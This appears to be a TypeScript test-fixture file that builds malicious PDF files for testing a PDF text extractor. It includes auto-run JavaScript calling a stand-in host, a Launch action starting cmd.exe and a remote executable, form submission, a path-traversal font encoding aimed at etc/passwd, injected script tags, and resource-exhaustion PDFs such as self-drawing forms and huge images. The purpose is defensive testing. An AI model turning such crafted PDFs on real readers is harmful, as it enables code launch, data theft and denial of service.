import { makePdf, makePagePdf, makeRawPage, makeRawPdf, stream, textStream } from './pdf-files';

const ELSEWHERE = 'http://elsewhere.example';

/** Actions that fetch, send or start something when the document opens. */
const ACTIONS = {
  'a script':
    '<< /S /JavaScript /JS (app.launchURL\\("http://elsewhere.example/js"\\); fetch\\("http://elsewhere.example/f"\\)) >>',
  'a link': `<< /S /URI /URI (${ELSEWHERE}/uri) >>`,
  'a program to start': `<< /S /Launch /F (${ELSEWHERE}/run.exe) /Win << /F (cmd.exe) >> >>`,
  'another file': `<< /S /GoToR /F (${ELSEWHERE}/other.pdf) /D [0 /Fit] >>`,
  'a form to send': `<< /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >> >>`,
  'data to import': `<< /S /ImportData /F (${ELSEWHERE}/data.fdf) >>`,
};

/** PDF files that attack the reader and have text all the same: “Governed by the laws of Delaware.” */
export const PDFS_WITH_TEXT: Readonly<Record<string, () => Uint8Array>> = {
  ...Object.fromEntries(
    Object.entries(ACTIONS).map(([what, action]) => [
      what,
      () =>
        makePagePdf({
          catalog: `/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >>`,
          page: '/AA << /O 6 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 6 0 R >>]',
          more: [action],
        }),
    ]),
  ),
  'a form field with scripts': () =>
    makePagePdf({
      catalog: '/AcroForm << /Fields [6 0 R] /NeedAppearances true /CO [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (x) /Rect [60 100 200 120] /A 7 0 R /AA << /F 7 0 R /C 7 0 R /K 7 0 R /PO 7 0 R /PV 7 0 R >> >>',
        ACTIONS['a script'],
      ],
    }),
  'content in a file elsewhere': () =>
    makePagePdf({
      page: '/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /R << /C << /D 6 0 R >> >> >> >>]',
      more: [stream('', `/FFilter /FlateDecode /F << /FS /URL /F (${ELSEWHERE}/stream) >>`)],
    }),
  'a font with code in its matrix': () =>
    makePagePdf({
      font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (1\\); fetch\\("http://elsewhere.example/"\\)] >>',
    }),
  'a character map with a path as its name': () =>
    makePagePdf({
      page: '/Resources << /Font << /F1 5 0 R /F2 6 0 R >> >>',
      content: stream(
        'BT /F1 12 Tf 60 780 Td (Governed by the laws of Delaware.) Tj /F2 12 Tf (x) Tj ET',
      ),
      more: [
        '<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /..#2f..#2f..#2f..#2fetc#2fpasswd /DescendantFonts [<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 0 >> >>] >>',
      ],
    }),
  'a wrong cross-reference table': () => makePagePdf({}, { hasXref: false }),
  'a stated number of 2,000,000,000 pages': () => {
    const [catalog = '', , ...rest] = makeRawPage({});
    return makeRawPdf([catalog, '<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>', ...rest]);
  },
  'an outline that contains itself': () =>
    makePagePdf({
      catalog: '/Outlines 6 0 R',
      more: ['<< /First 6 0 R /Last 6 0 R /Next 6 0 R /Title (x) >>'],
    }),
  'a form that draws itself': () =>
    makePagePdf({
      page: '/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >>',
      content: stream('BT /F1 12 Tf 60 780 Td (Governed by the laws of Delaware.) Tj ET /X Do'),
      more: [
        stream(
          '/X Do /X Do',
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>',
        ),
      ],
    }),
  'markup and scripts as its words': () =>
    makePagePdf({
      content: textStream(
        'Governed by the laws of Delaware. <script>fetch\\("http://elsewhere.example/"\\)</script>',
      ),
    }),
  'deeply nested lists': () => makePagePdf({ page: `/Deep ${'['.repeat(400)}${']'.repeat(400)}` }),
};

/** A page that draws a picture without data. */
export const makePicturePage = (draw: string, ...more: readonly string[]) =>
  makePagePdf({
    page: '/Resources << /XObject << /I 6 0 R >> >>',
    content: stream(`q 500 0 0 700 40 40 cm ${draw} Q`),
    more,
  });

const SIZE = '/Width 60000 /Height 60000 /BitsPerComponent 1';

/** PDF files of one page with a picture of 60,000 by 60,000 pixels, and without text. */
export const LARGE_PICTURES: Readonly<Record<string, () => Uint8Array>> = {
  'a large picture': () =>
    makePicturePage('/I Do', stream('', `/Subtype /Image ${SIZE} /ColorSpace /DeviceGray`)),
  'a large mask': () =>
    makePicturePage('/I Do', stream('', `/Subtype /Image ${SIZE} /ImageMask true`)),
  'a large picture in a form': () =>
    makePicturePage(
      '/I Do',
      stream('/J Do', '/Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /J 7 0 R >> >>'),
      stream('', `/Subtype /Image ${SIZE} /ColorSpace /DeviceGray`),
    ),
  'a large picture in the content': () =>
    makePicturePage('BI /W 60000 /H 60000 /BPC 1 /CS /G ID x EI'),
};

/** PDF files that are refused, by the kind of the failure. */
export const REFUSED_PDFS: Readonly<
  Record<string, { readonly kind: string; readonly make: () => Uint8Array | Promise<Uint8Array> }>
> = {
  'half of a PDF without its objects': {
    kind: 'damaged',
    make: () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Cat'),
  },
  'random bytes after the header': {
    kind: 'damaged',
    make: () =>
      Uint8Array.from(
        [...'%PDF-1.4\n']
          .map((character) => character.charCodeAt(0))
          .concat(Array.from({ length: 50_000 }, (_, index) => (index * 7919) % 251)),
      ),
  },
  'a page tree that contains itself': {
    kind: 'damaged',
    make: () =>
      makeRawPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 3 >>',
      ]),
  },
  'a page without text': {
    kind: 'empty',
    make: () => makePdf([[]]),
  },
  '10,000 pages': {
    kind: 'too-many-pages',
    make: () => {
      const [catalog = '', , ...rest] = makeRawPage({});
      const kids = '3 0 R '.repeat(10_000);
      return makeRawPdf([catalog, `<< /Type /Pages /Kids [${kids}] /Count 10000 >>`, ...rest]);
    },
  },
  'more words on a page than fit': {
    kind: 'too-much',
    make: () => {
      const words = Array.from(
        { length: 120_000 },
        (_, i) => `1 0 0 1 ${(i * 37) % 500} ${(i * 91) % 800} Tm (a) Tj`,
      );
      return makePagePdf({ content: stream(`BT /F1 12 Tf ${words.join('\n')} ET`) });
    },
  },
};
